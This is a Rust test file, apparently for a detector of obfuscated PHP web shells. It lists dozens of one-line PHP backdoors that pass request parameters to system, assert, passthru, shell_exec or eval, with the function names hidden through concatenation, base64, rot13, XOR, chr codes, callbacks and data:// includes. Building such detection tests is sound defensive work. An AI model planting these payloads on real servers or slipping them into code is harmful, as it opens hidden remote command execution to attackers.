//! Code that hides what it does.

use super::does;

/// A web shell in the end, however it is spelled.
fn runs(script: &str) {
    assert!(does(script, "evaluate "));
    let all = super::acts(script);
    let shell = all
        .iter()
        .any(|act| act.starts_with("evaluate ") && act.contains("{request"));
    assert!(shell, "{all:#?} of {script}");
}

#[test]
fn names_are_put_together() {
    for script in [
        "<?php $f = 'sys'.'tem'; $f($_GET['c']);",
        "<?php $f = strrev('metsys'); $f($_GET['c']);",
        "<?php $f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f($_GET['c']);",
        "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET['c']);",
        "<?php $f = str_rot13('flfgrz'); $f($_POST['c']);",
        "<?php $f = base64_decode('c3lzdGVt'); $f($_POST['c']);",
        "<?php $f = implode('', ['s','y','s','t','e','m']); $f($_POST['c']);",
        "<?php $f = str_replace('x', '', 'xsxyxsxtxexm'); $f($_POST['c']);",
        "<?php $f = substr('aasystembb', 2, 6); $f($_POST['c']);",
        "<?php $f = base_convert(1751504350, 10, 36); $f($_GET['c']);",
        "<?php $f = hex2bin('73797374656d'); $f($_GET['c']);",
        "<?php $f = sprintf('%s%s', 'sys', 'tem'); $f($_GET['c']);",
        "<?php $f = pack('H*', '73797374656d'); $f($_GET['c']);",
        "<?php $a = 'tsem y'; $f = $a[1].$a[5].$a[1].$a[0].$a[2].$a[3]; $f($_GET['c']);",
        "<?php ${'f'} = 'system'; $x = 'f'; $$x($_GET['c']);",
        "<?php $f = ucwords(strtolower('SYSTEM')); $f($_GET['c']);",
        "<?php (\"sys\".\"tem\")($_GET['c']);",
        "<?php [new A, 'run'](); class A { function run() { ('sys'.'tem')($_REQUEST['x']); } }",
        "<?php call_user_func('sys'.'tem', $_GET['c']);",
        "<?php call_user_func_array('assert', array($_POST['c']));",
        "<?php array_map('assert', array($_POST['c']));",
        "<?php array_filter(array($_POST['c']), 'system');",
        "<?php array_walk($_POST, 'assert');",
        "<?php usort($a = [$_POST['a'], $_POST['b']], 'assert');",
        "<?php $r = new ReflectionFunction('system'); $r->invoke($_GET['c']);",
        "<?php register_shutdown_function('passthru', $_GET['c']);",
        "<?php ob_start('system'); echo $_GET['c']; ob_end_flush();",
        "<?php preg_replace('/.*/e', $_POST['x'], 'a');",
        "<?php preg_replace_callback('/.+/', 'assert', $_POST['x']);",
        "<?php $f = create_function('$a', 'eval($a);'); $f($_POST['x']);",
        "<?php filter_var($_POST['x'], FILTER_CALLBACK, array('options' => 'assert'));",
        "<?php $m = ['a' => 'system']; $m['a']($_GET['c']);",
        "<?php define('F', 'system'); $f = F; $f($_GET['c']);",
        "<?php $GLOBALS['q'] = 'system'; function z() { global $q; $q($_GET['c']); } z();",
        "<?php parse_str('f=system'); $f($_GET['c']);",
        "<?php extract(['f' => 'system']); $f($_GET['c']);",
        "<?php $x = json_decode('{\"f\":\"system\"}', true); $x['f']($_GET['c']);",
        "<?php $f = ~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"; $f($_GET['c']);",
        "<?php $f = ('#'^'P').('*'^'S').('#'^'P').('$'^'P').('5'^'P').('='^'P'); $f($_GET['c']);",
    ] {
        runs(script);
    }
}

#[test]
fn layers_are_undone() {
    for script in [
        "<?php eval(base64_decode('c3lzdGVtKCRfR0VUWydjJ10pOw=='));",
        "<?php $a = 'base64_decode'; eval($a('c3lzdGVtKCRfR0VUWydjJ10pOw=='));",
        "<?php eval(\"?>\".base64_decode('PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOw=='));",
        "<?php eval(str_rot13('flfgrz($_TRG[\\'p\\']);'));",
        "<?php eval(strrev(';)]\"c\"[TEG_$(metsys'));",
        "<?php $k='k'; $d=base64_decode('GBIYHw4GQ082Pi4/Mkw='); $o=''; for($i=0;$i<strlen($d);$i++){ $o.=$d[$i]^$k[$i%strlen($k)]; } eval('system($_GET[1]);'.'//'.$o);",
        "<?php $s='';foreach([115,121,115,116,101,109,40,36,95,71,69,84,91,48,93,41,59] as $c)$s.=chr($c);eval($s);",
        "<?php include 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOw==';",
        "<?php file_put_contents('/tmp/a.php', '<?php system($_GET[\"c\"]);'); include '/tmp/a.php';",
        "<?php goto b; a: $f($_GET['c']); goto c; b: $f = 'system'; goto a; c:",
        "<?php $i = 0; while (true) { switch ($i) { case 1: $f .= 'tem'; $i = 2; break; case 0: $f = 'sys'; $i = 1; break; case 2: $f($_GET['c']); exit; } }",
        "<?php function d($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) - 1); } return $o; } $f = d('tztufn'); $f($_GET['c']);",
        "<?php $_ = []; $_ = @\"$_\"; $_ = $_['!'=='@']; $__ = $_; for ($i = 0; $i < 18; $i++) $__++; $f = $__; for ($i = 0; $i < 6; $i++) $__++; $f .= $__.'STEM'; $f($_GET['c']);",
        "<?php class L { private static $t = ['c3lz', 'dGVt']; static function g($i) { return base64_decode(self::$t[$i]); } } $f = L::g(0).L::g(1); $f($_GET['c']);",
        "<?php $o = new stdClass; $o->{'f'} = 'system'; ($o->f)($_GET['c']);",
        "<?php $f = fn($x) => shell_exec($x); echo $f($_GET['c']);",
        "<?php $f = function($x) { return shell_exec($x); }; echo array_map($f, [$_GET['c']])[0];",
        "<?php list($a, $b) = explode('|', 'sys|tem'); $f = $a . $b; $f($_POST['z']);",
        "<?php $a = <<<'X'\nsystem(\\$_GET['c']);\nX;\n eval(stripslashes($a));",
        "<?php $x = <<<Y\n  sys{$z}tem\n  Y;\n $f = trim(str_replace(\"\\n\", '', $x)); system($_GET['c']);",
        "<?php eval(eval('return \"system(\\$_GET[1]);\";'));",
    ] {
        runs(script);
    }
}
